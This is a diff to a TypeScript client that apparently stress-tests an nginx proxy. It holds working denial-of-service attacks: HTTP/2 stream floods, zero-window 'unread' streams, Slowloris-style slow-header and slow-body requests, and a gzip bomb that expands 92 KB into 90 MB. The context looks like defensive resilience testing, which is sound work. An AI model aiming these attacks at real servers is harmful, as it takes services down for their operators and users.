@@ -2,11 +2,10 @@
  * One hostile client, in a container of its own: runs the attack that ATTACK names on the proxy (HOST) until it is stopped, and prints what
  * its requests got when it is. Without dependencies. A connection or stream that ends is opened again.
  */
-import { type ClientHttp2Session, connect as connectH2 } from "node:http2";
+import { type ClientHttp2Session, connect as connectH2, type OutgoingHttpHeaders } from "node:http2";
 import { setTimeout as pause } from "node:timers/promises";
 import { connect, type TLSSocket } from "node:tls";
 import { gzipSync } from "node:zlib";
-import { browse } from "./office.ts";
 
 const { ATTACK = "", HOST = "", TARGET = "/", METHOD = "GET", ACCEPT = "text/html", PURPOSE } = process.env;
 const { CONNECTIONS = "1", STREAMS = "1", SIZE = "0" } = process.env;
@@ -19,15 +18,7 @@ const results: Record<string, number> = {};
 const count = (result: string | number) => {
   results[result] = (results[result] ?? 0) + 1;
 };
-/** How long requests of each kind took, in milliseconds. */
-const times: Record<string, number[]> = {};
-const quantile = (list: number[], share: number) => Math.round(list[Math.floor(list.length * share)] ?? 0);
 process.on("SIGTERM", () => {
-  for (const [kind, list] of Object.entries(times)) {
-    list.sort((a, b) => a - b);
-    results[`${kind}, p50 ms`] = quantile(list, 0.5);
-    results[`${kind}, p99 ms`] = quantile(list, 0.99);
-  }
   console.log(JSON.stringify(results));
   process.exit(0);
 });
@@ -45,16 +36,9 @@ function open(protocol: string): Promise<TLSSocket | undefined> {
 async function request(session: ClientHttp2Session, waitMs: number): Promise<void> {
   while (!session.closed && !session.destroyed) {
     await new Promise<void>((resolve) => {
-      const headers = {
-        ":method": METHOD,
-        // A file that is missing is another one each time: requests for the same one wait for the first.
-        ":path": TARGET.replace("*", String(Math.random())),
-        ":authority": HOST,
-        accept: ACCEPT,
-        "accept-encoding": "gzip",
-        ...(PURPOSE && { "sec-purpose": PURPOSE }),
-      };
-      const stream = session.request(headers, { endStream: true });
+      const purpose: OutgoingHttpHeaders = PURPOSE ? { "sec-purpose": PURPOSE } : {};
+      const own = { ":method": METHOD, ":path": TARGET, ":authority": HOST, accept: ACCEPT, "accept-encoding": "gzip" };
+      const stream = session.request({ ...own, ...purpose }, { endStream: true });
       stream.once("response", ({ ":status": status = 0 }) => count(status));
       stream.on("error", () => undefined).on("close", resolve);
       if (session.localSettings.initialWindowSize) stream.resume();
@@ -67,69 +51,39 @@ async function request(session: ClientHttp2Session, waitMs: number): Promise<voi
 async function multiplexed(initialWindowSize: number, waitMs: number): Promise<void> {
   const socket = await open("h2");
   if (!socket) return count("no connection");
-  const session = connectH2(`https://${HOST}:8443`, {
-    createConnection: () => socket,
-    settings: { initialWindowSize },
-  });
+  const settings = { initialWindowSize };
+  const session = connectH2(`https://${HOST}:8443`, { createConnection: () => socket, settings });
   const closed = new Promise((resolve) => session.on("error", () => undefined).once("close", resolve));
   // Nginx knows how little may be sent once it has the client's settings.
   await Promise.race([closed, new Promise((resolve) => session.once("localSettings", resolve))]);
   await Promise.all([closed, ...Array.from({ length: streams }, () => request(session, waitMs))]);
 }
 
-/** Sends the head of a request and this much of its body, then a byte now and then. */
-async function slowly(head: string, body: number): Promise<void> {
+/** Writes to a connection over HTTP/1.1, then a byte now and then if `slow`; ends when the connection is closed. */
+async function write(parts: (string | Buffer)[], slow: boolean): Promise<void> {
   const socket = await open("http/1.1");
   if (!socket) return count("no connection");
   socket.once("data", (answer) => count(answer.toString("latin1").slice(9, 12)));
-  socket.write(head);
-  socket.write(Buffer.alloc(body, "x"));
-  const more = setInterval(() => socket.write("x"), BYTE_MS);
+  for (const part of parts) socket.write(part);
+  const more = slow ? setInterval(() => socket.write("x"), BYTE_MS) : undefined;
   await new Promise((resolve) => socket.on("close", resolve));
   clearInterval(more);
-  // Slowly: the attack holds connections, it is no flood of handshakes.
-  await pause(5_000);
+  // The attack holds connections, it is no flood of handshakes.
+  if (slow) await pause(5_000);
 }
 
+const post = (length: number, more = "") =>
+  `POST ${TARGET} HTTP/1.1\r\nhost: ${HOST}\r\nconnection: close\r\ncontent-length: ${length}\r\n${more}\r\n`;
 /** 92 KB that decompress to 90 MB of blank lines. */
-const bomb = () => gzipSync(Buffer.concat([Buffer.from("{}\n"), Buffer.alloc(90 << 20, "\n")]));
-let packed: Buffer;
-async function post(): Promise<void> {
-  packed ??= bomb();
-  const socket = await open("http/1.1");
-  if (!socket) return count("no connection");
-  const headers = `content-type: text/plain\r\ncontent-encoding: gzip\r\ncontent-length: ${packed.length}`;
-  socket.once("data", (answer) => count(answer.toString("latin1").slice(9, 12)));
-  socket.write(`POST ${TARGET} HTTP/1.1\r\nhost: ${HOST}\r\nconnection: close\r\n${headers}\r\n\r\n`);
-  socket.write(packed);
-  await new Promise((resolve) => socket.on("close", resolve));
-}
-
-/** One of many browsers behind one address. */
-async function browser(): Promise<void> {
-  const socket = await open("h2");
-  if (!socket) return count("no connection");
-  const session = connectH2(`https://${HOST}:8443`, { createConnection: () => socket });
-  await browse(
-    session.on("error", () => undefined),
-    HOST,
-    TARGET,
-    (kind, status, milliseconds) => {
-      count(`${kind} ${status}`);
-      times[kind] ??= [];
-      times[kind].push(milliseconds);
-    },
-  );
-}
+const bomb = ATTACK === "bombs" ? gzipSync(Buffer.concat([Buffer.from("{}\n"), Buffer.alloc(90 << 20, "\n")])) : "";
+const gzip = "content-type: text/plain\r\ncontent-encoding: gzip\r\n";
 
 const attacks: Record<string, () => Promise<void>> = {
   unread: () => multiplexed(0, 1_000),
   flood: () => multiplexed(1 << 20, 0),
-  "slow-body": () =>
-    slowly(`POST ${TARGET} HTTP/1.1\r\nhost: ${HOST}\r\ncontent-length: ${size + 1_000}\r\n\r\n`, size),
-  "slow-header": () => slowly(`GET ${TARGET} HTTP/1.1\r\nhost: ${HOST}\r\nx-slow: `, 0),
-  bombs: post,
-  office: browser,
+  "slow-body": () => write([post(size + 1_000), Buffer.alloc(size, "x")], true),
+  "slow-header": () => write([`GET ${TARGET} HTTP/1.1\r\nhost: ${HOST}\r\nx-slow: `], true),
+  bombs: () => write([post(bomb.length, gzip), bomb], false),
 };
 const attack = attacks[ATTACK];
 if (!attack) throw new Error(`ATTACK '${ATTACK}' is unknown: use one of ${Object.keys(attacks)}`);
